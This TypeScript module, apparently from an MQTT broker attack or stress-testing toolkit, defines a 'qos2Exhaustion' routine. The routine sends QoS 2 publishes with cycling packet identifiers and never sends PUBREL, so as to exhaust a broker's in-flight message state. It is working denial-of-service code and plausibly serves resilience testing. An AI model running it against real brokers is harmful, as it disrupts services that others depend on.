import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';
import { publish } from './packets.ts';

/**
 * Publishes at QoS 2 with one packet identifier after the other and never sends a PUBREL; when all 65,535 are used up,
 * it begins again with the first. An action is one publish.
 */
export function qos2Exhaustion(target: AttackTarget, options: AttackOptions = {}): Attack {
  const assault = new Assault(target, planOf({ rate: 0, clients: 1 }, options));
  return assault.crew((client) => {
    client.step = (client.step % 65_535) + 1;
    client.send(publish(`${assault.plan.name}/2`, { qos: 2, packetId: client.step }));
  });
}
